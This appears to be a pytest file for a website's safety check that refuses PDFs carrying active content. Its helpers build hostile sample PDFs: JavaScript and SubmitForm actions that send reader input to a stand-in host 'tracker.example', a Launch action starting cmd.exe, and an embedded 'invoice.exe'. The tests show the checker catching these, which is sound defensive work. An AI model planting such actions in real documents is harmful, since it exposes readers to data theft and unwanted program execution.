"""PDFs with active content, encrypted or unreadable ones are refused by the check and never published.

The test PDFs are made with pypdf, as an attacker's tool would make them.
"""

from __future__ import annotations

import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from conftest import check
from epi_site.safety.files import publishable
from epi_site.safety.pdf import pdf_problems
from hostile import build_unchecked, make_pdf


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject("/" + key)] = value
    return action


def _open_javascript_submit(w):
    w._root_object[NameObject("/OpenAction")] = _action(
        "/JavaScript", JS=TextStringObject("this.submitForm({cURL: 'https://tracker.example/f'});"))


def _open_submit_form(w):
    w._root_object[NameObject("/OpenAction")] = _action("/SubmitForm", F=TextStringObject("https://tracker.example/f"))


def _page_additional_action(w):
    w.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/ImportData", F=TextStringObject("x.fdf"))})


def _launch_in_annotation(w):
    annotation = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                                   NameObject("/Rect"): ArrayObject(),
                                   NameObject("/A"): _action("/Launch", F=TextStringObject("cmd.exe"))})
    w.pages[0][NameObject("/Annots")] = ArrayObject([w._add_object(annotation)])


def _embedded_file(w):
    w.add_attachment("invoice.exe", b"MZ...")


def _document_javascript(w):
    """A script in the document's name tree, run when it opens, without /OpenAction."""
    script = _action("/JavaScript", JS=TextStringObject("app.alert('x');"))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), w._add_object(script)])})
    w._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): w._add_object(tree)})


def _xfa_form(w):
    w._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): ArrayObject()})


def _rich_media(w):
    w.pages[0][NameObject("/Annots")] = ArrayObject([DictionaryObject({NameObject("/Subtype"): NameObject("/RichMedia"),
                                                                       NameObject("/RichMedia"): DictionaryObject()})])


BAD = {
    "OpenAction JavaScript that submits a form": (_open_javascript_submit, "JavaScript"),
    "OpenAction": (_open_javascript_submit, "an action when it opens (/OpenAction)"),
    "SubmitForm": (_open_submit_form, "sends what readers type elsewhere"),
    "additional action": (_page_additional_action, "(/AA)"),
    "ImportData": (_page_additional_action, "(/ImportData)"),
    "Launch": (_launch_in_annotation, "starts a program (/Launch)"),
    "embedded file": (_embedded_file, "files embedded in it"),
    "document JavaScript": (_document_javascript, "JavaScript"),
    "XFA": (_xfa_form, "an XFA form"),
    "RichMedia": (_rich_media, "(/RichMedia)"),
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_a_pdf_with_active_content_is_refused(case, tmp_path):
    plant, expected = BAD[case]
    found = pdf_problems(make_pdf(plant))
    assert any(expected in message for message in found), found
    path = tmp_path / "docs" / "report.pdf"
    path.parent.mkdir()
    path.write_bytes(make_pdf(plant))
    assert not publishable(tmp_path / "docs", path)


@pytest.mark.parametrize(("data", "expected"), [
    (make_pdf(password="secret"), "encrypted or password-protected"),  # noqa: S106 - a test file's password
    (b"%PDF-1.4\n%%EOF\n", "cannot be read"),
    (b"not a pdf at all", "cannot be read"),
    (make_pdf()[:200], "cannot be read"),
])
def test_an_encrypted_or_unreadable_pdf_is_refused_with_a_message(data, expected):
    found = pdf_problems(data)
    assert found and expected in found[0], found


def test_a_huge_pdf_is_refused_before_it_is_parsed():
    found = pdf_problems(b"%PDF-1.4\n" + b" " * 20_000_001)
    assert found and "MB" in found[0]


def test_a_plain_pdf_passes():
    assert pdf_problems(make_pdf()) == []


def test_the_check_names_the_pdf_and_the_build_leaves_it_out(scratch, tmp_path):
    (scratch / "docs/assets").mkdir(exist_ok=True)
    (scratch / "docs/assets/report.pdf").write_bytes(make_pdf(_open_javascript_submit))
    (scratch / "docs/assets/plain.pdf").write_bytes(make_pdf())
    result = check(scratch)
    assert result.returncode == 1
    assert "docs/assets/report.pdf: this PDF holds JavaScript" in result.stdout, result.stdout
    assert "plain.pdf" not in result.stdout and "Export as PDF" in result.stdout
    site = tmp_path / "site"
    assert build_unchecked(scratch, site).returncode == 0
    assert not (site / "assets/report.pdf").exists() and (site / "assets/plain.pdf").exists()
